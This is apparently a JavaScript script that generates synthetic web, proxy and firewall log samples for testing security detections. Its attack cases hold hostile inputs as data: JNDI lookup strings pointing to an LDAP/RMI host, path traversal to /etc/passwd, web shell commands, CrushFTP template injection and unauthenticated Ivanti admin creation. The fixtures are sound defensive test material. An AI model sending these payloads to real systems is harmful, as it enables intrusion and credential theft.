// Writes the samples of web servers, proxies and appliances in this folder.
import { hex, later, times, writeSamples } from '../samples.js';

const START = '2026-10-13T14:00:00Z';
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0';
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

function accessTime(at) {
  const [date, clock] = later(START, at).slice(0, 19).split('T');
  const [year, month, day] = date.split('-');
  return `${day}/${months[Number(month) - 1]}/${year}:${clock} +0000`;
}

/** A line in Apache combined log format. */
function access(at, method, uri, { status = 200, src = '198.51.100.60', agent = BROWSER, referer = '-', bytes = 5120 } = {}) {
  return `${src} - - [${accessTime(at)}] "${method} ${uri} HTTP/1.1" ${status} ${bytes} "${referer}" "${agent}"`;
}

/** A line of an nginx log in key=value format. */
function nginx(at, method, path, { status = 200, src = '198.51.100.60', agent = BROWSER, referer = '-', query = '-' } = {}) {
  return `site="www.example.com" server="www.example.com" dest_port="443" dest_ip="192.0.2.10" src="${src}" src_ip="${src}" user="-" time_local="${accessTime(at)}" protocol="HTTP/1.1" status="${status}" bytes_out="2048" bytes_in="412" http_referer="${referer}" http_user_agent="${agent}" nginx_version="1.26.2" http_x_forwarded_for="-" http_x_header="-" uri_query="${query}" uri_path="${path}" http_method="${method}" response_time="0.021" cookie="-" request_time="0.022" category="text/html" https="on"`;
}

/** An HTTP request, as Splunk Stream records it. */
function stream(at, path, { agent, site = '192.0.2.80:8080', status = 200 }) {
  const seed = `${at}${path}`;
  return { endtime: later(START, at + 1), timestamp: later(START, at), bytes: 2000, bytes_in: 177, bytes_out: 1823, dest_headers: `HTTP/1.1 ${status} OK\r\nContent-length: 1745\r\n\r\n`, dest_ip: '192.0.2.80', dest_mac: '02:00:5E:10:00:C5', dest_port: 8080, flow_id: hex(seed, 32), http_comment: `HTTP/1.1 ${status} OK`, http_content_length: 1745, http_method: 'GET', http_user_agent: agent, packets_in: 5, packets_out: 4, protocol_stack: 'ip:tcp:http', site, src_headers: `GET ${path} HTTP/1.1\r\nUser-Agent: ${agent}\r\nHost: ${site}\r\n\r\n`, src_ip: '10.20.4.15', src_mac: '02:00:5E:20:00:71', src_port: 41000 + at, status, time_taken: 45647, transport: 'tcp', uri: path, uri_path: path };
}

/** A URL request, as a Palo Alto Networks firewall logs it. */
function panUrl(at, url, { action = 'allow', method = 'get', src = '198.51.100.60' } = {}) {
  const time = later(START, at).slice(0, 19).replaceAll('-', '/').replace('T', ' ');
  return `Oct 13 ${time.slice(11)} fw-01.example.com 1,${time},013201004583,THREAT,url,2561,${time},${src},192.0.2.10,${src},192.0.2.10,inbound-web,,,web-browsing,vsys1,untrust,dmz,ethernet1/1,ethernet1/3,splunk,${time},${70000 + at},1,${40000 + at},443,${40000 + at},443,0x1403000,tcp,${action},"${url}",(9999),any,informational,client-to-server,${7081856864553000 + at},0xa000000000000000,Reserved,Reserved,0,,0,,,1,"${BROWSER}",,,,,,,0,0,0,0,0,,fw-01,,,,${method},0,,0,,N/A,unknown,AppThreat-0-0,0x0,0,4294967295,,"business-and-economy,low-risk",${hex(url, 32)},0,`;
}

const jndiSamples = {
  'jndi_lookup/attack.log': [
    nginx(0, 'GET', '/', { src: '203.0.113.44', agent: '${jndi:ldap://203.0.113.45:1389/Basic/Command/Base64/aWQ=}' }),
    nginx(4, 'GET', '/', { src: '203.0.113.46', referer: '${${lower:j}ndi:${lower:l}dap://203.0.113.45/a}' }),
    nginx(8, 'GET', '/search', { src: '203.0.113.47', query: 'q=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.45%2Fx%7D' }),
  ],
  'jndi_lookup/templates_and_searches.log': [
    nginx(0, 'GET', '/search', { query: 'q=log4j+jndi%3Aldap+explained' }),
    nginx(3, 'GET', '/assets/$%7Blocale%7D/main.js', { status: 404 }),
    nginx(6, 'GET', '/', { referer: 'https://docs.example.com/jndi/${version}/ldap' }),
  ],
  'jndi_lookup/ordinary.log': [nginx(0, 'GET', '/'), nginx(2, 'POST', '/login', { status: 302 }), nginx(5, 'GET', '/ldap/directory')],
};

const exploitSamples = {
  'known_exploit_path/attack_nginx.log': [
    nginx(0, 'POST', '/wp-json/bricks/v1/render_element', { src: '203.0.113.44', agent: 'python-requests/2.32.3' }),
    nginx(5, 'GET', '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd', { src: '203.0.113.44' }),
    nginx(9, 'POST', '/setup/setupadministrator.action', { src: '203.0.113.48', status: 302 }),
    nginx(12, 'POST', '/app/rest/users/id:1/tokens/RPC2', { src: '203.0.113.49', status: 500 }),
  ],
  'known_exploit_path/attack_firewall.log': [panUrl(0, 'app.example.com/mgmt/tm/util/bash', { method: 'post', src: '203.0.113.44' })],
  'known_exploit_path/not_found_or_denied.log': [
    nginx(0, 'POST', '/wp-json/bricks/v1/render_element', { src: '203.0.113.44', status: 404 }),
    nginx(4, 'GET', '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd', { src: '203.0.113.44', status: 403 }),
    nginx(6, 'GET', '/cgi-bin/.%2e/.%2e/.%2e/etc/hosts', { src: '203.0.113.44', status: 400 }),
  ],
  'known_exploit_path/similar_paths.log': [nginx(0, 'GET', '/wp-json/wp/v2/posts'), nginx(2, 'GET', '/cgi-bin/status'), nginx(3, 'GET', '/docs/mgmt/tm/overview'), nginx(5, 'GET', '/setup/index.html')],
};

const classSamples = {
  'java_class_download/attack.json': [stream(0, '/Exploit7fKq.class', { agent: 'Java/1.8.0_181' }), stream(20, '/a/Run.class', { agent: 'Java/17.0.2', site: 'cdn.example.net' })],
  'java_class_download/builds_and_browsers.json': [stream(0, '/maven2/org/slf4j/slf4j-api/2.0.16/slf4j-api-2.0.16.jar', { agent: 'Java/17.0.2', site: 'repo.example.com' }), stream(5, '/javadoc/Run.class', { agent: BROWSER, site: 'docs.example.com' }), stream(9, '/javadoc/Run.class', { agent: 'Javadoc-Viewer/2.1', site: 'docs.example.com' })],
  'java_class_download/missing_or_other.json': [stream(0, '/a/Run.class', { agent: 'Java/17.0.2', site: 'cdn.example.net', status: 404 }), stream(3, '/a/Empty.class', { agent: 'Java/17.0.2', status: 204 }), stream(4, '/assets/style.class.css', { agent: 'Java/17.0.2' }), stream(6, '/tiles/compass', { agent: 'Java/17.0.2' })],
};

const shellSamples = {
  'web_shell/attack.log': [access(0, 'POST', '/uploads/avatar_21.php', { src: '203.0.113.44' }), access(9, 'POST', '/wp-content/uploads/2026/10/x.php?c=id', { src: '203.0.113.44' }), access(15, 'POST', '/images/banner.jsp', { src: '203.0.113.48' }), access(22, 'POST', '/aspnet_client/system_web/s.aspx', { src: '203.0.113.49' })],
  'web_shell/uploads_and_images.log': [access(0, 'POST', '/uploads/', {}), access(2, 'POST', '/upload.php', {}), access(4, 'POST', '/uploads/report.pdf', {}), access(5, 'POST', '/api/images', {})],
  'web_shell/not_found_or_read.log': [access(0, 'POST', '/uploads/avatar_21.php', { src: '203.0.113.44', status: 404 }), access(2, 'POST', '/uploads/avatar_21.php', { src: '203.0.113.44', status: 403 }), access(5, 'GET', '/images/gallery.php', {}), access(8, 'POST', '/files/handler.ashx', { status: 201 })],
};

const scannerSamples = {
  'scanner/attack.log': [access(0, 'GET', '/item?id=1%27', { src: '203.0.113.44', agent: 'sqlmap/1.8.9#stable (https://sqlmap.org)' }), access(2, 'GET', '/.git/config', { src: '203.0.113.48', status: 404, agent: 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))' }), access(3, 'GET', '/admin', { src: '203.0.113.49', status: 404, agent: 'gobuster/3.6' })],
  'scanner/crawlers_and_health_checks.log': [access(0, 'GET', '/', { agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }), access(2, 'GET', '/health', { agent: 'kube-probe/1.31' }), access(3, 'GET', '/status', { agent: 'curl/8.5.0' })],
  'scanner/browsers.log': [access(0, 'GET', '/'), access(3, 'GET', '/blog/what-is-sqlmap'), access(7, 'GET', '/tools?name=nuclei', { referer: 'https://www.example.com/sqlmap' })],
};

const words = times(40, (index) => hex(`word ${index}`, 6));
const guessSamples = {
  'directory_brute_force/attack.log': words.map((word, index) => access(index, 'GET', `/${word}`, { src: '203.0.113.44', status: 404 })),
  'directory_brute_force/broken_links.log': [
    ...times(60, (index) => access(index, 'GET', '/img/logo-old.png', { status: 404 })),
    ...words.slice(0, 39).map((word, index) => access(index, 'GET', `/old/${word}.html`, { src: '198.51.100.61', status: 404 })),
    access(900, 'GET', '/old/last.html', { src: '198.51.100.61', status: 404 }),
  ],
  'directory_brute_force/crawler.log': [
    ...words.map((word, index) => access(index, 'GET', `/shop/${word}`, { src: '198.51.100.62', status: index % 4 === 0 ? 301 : 200, agent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)' })),
    ...words.map((word, index) => access(index, 'GET', `/api/${word}`, { src: '198.51.100.63', status: 401, agent: 'okhttp/4.12.0' })),
  ],
};

const session = (at, user, line) => {
  const [date, clock] = later(START, at).slice(0, 19).split('T');
  const [year, month, day] = date.split('-');
  return `SESSION|${month}/${day}/${year} ${clock}.${100 + at}|[HTTPS:${169 + at}_${52326 + at}_sMa:${user}:203.0.113.44] READ: *${line} HTTP/1.1*`;
};
const crushSamples = {
  'crushftp_template_injection/attack.log': [session(0, 'anonymous', 'POST /WebInterface/function/?c2f=CmF1&command=zip&path=%3CINCLUDE%3Eusers/MainUsers/groups.XML%3C/INCLUDE%3E&names=/a'), session(9, 'anonymous', 'POST /WebInterface/function/?c2f=Xa91&command=zip&path=<INCLUDE>sessions.obj</INCLUDE>&names=/a')],
  'crushftp_template_injection/ordinary.log': [session(0, 'anonymous', 'POST /WebInterface/function/?c2f=CmF1&command=getUserInfo'), session(4, 'anonymous', 'GET /WebInterface/new-ui/login.html'), session(7, 'anonymous', 'POST /WebInterface/function/?command=zip&path=/public/include/&names=/a')],
  'crushftp_template_injection/logged_in_users.log': [
    session(3, 'anonymous-partner', 'POST /WebInterface/function/?c2f=Jd81&command=testTemplate&template=%3CINCLUDE%3Eheader.html%3C/INCLUDE%3E'),session(0, 'crushadmin', 'POST /WebInterface/function/?c2f=Kd73&command=testTemplate&template=%3CINCLUDE%3Efooter.html%3C/INCLUDE%3E')],
};

const manager = (at, fields) => {
  const [date, clock] = later(START, at).slice(0, 19).split('T');
  const [year, month, day] = date.split('-');
  return [`[${day}/${months[Number(month) - 1]}/${year}:${clock} +0000]`, ...Object.entries(fields).map(([name, value]) => `${name}=${value}`)].join('\t');
};
const unauthenticated = { USER: '!!ABSENT!!', GROUP: '!!ABSENT!!', AUTH: '!!ABSENT!!', IP: '!!ABSENT!!' };
const admin = { USER: 'admin', GROUP: 'admin', AUTH: 'local', IP: '10.20.0.9' };
const ivantiSamples = {
  'ivanti_user_created/attack.log': [manager(0, { ...unauthenticated, OPERATION: 'adduser', MODUSER: 'support1', MODGROUP: 'admin' }), manager(7, { ...unauthenticated, OPERATION: 'adduser', MODUSER: 'support2', MODGROUP: 'admin-readonly' })],
  'ivanti_user_created/by_an_administrator.log': [manager(0, { ...admin, OPERATION: 'adduser', MODUSER: 'ole.berg', MODGROUP: 'monitoring' })],
  'ivanti_user_created/other_operations.log': [manager(0, { ...unauthenticated, OPERATION: 'startup' }), manager(5, { ...admin, OPERATION: 'login' }), manager(9, { ...unauthenticated, OPERATION: 'loginfailed', MODUSER: 'admin' })],
};

writeSamples(import.meta.url, { ...jndiSamples, ...exploitSamples, ...classSamples, ...shellSamples, ...scannerSamples, ...guessSamples, ...crushSamples, ...ivantiSamples });
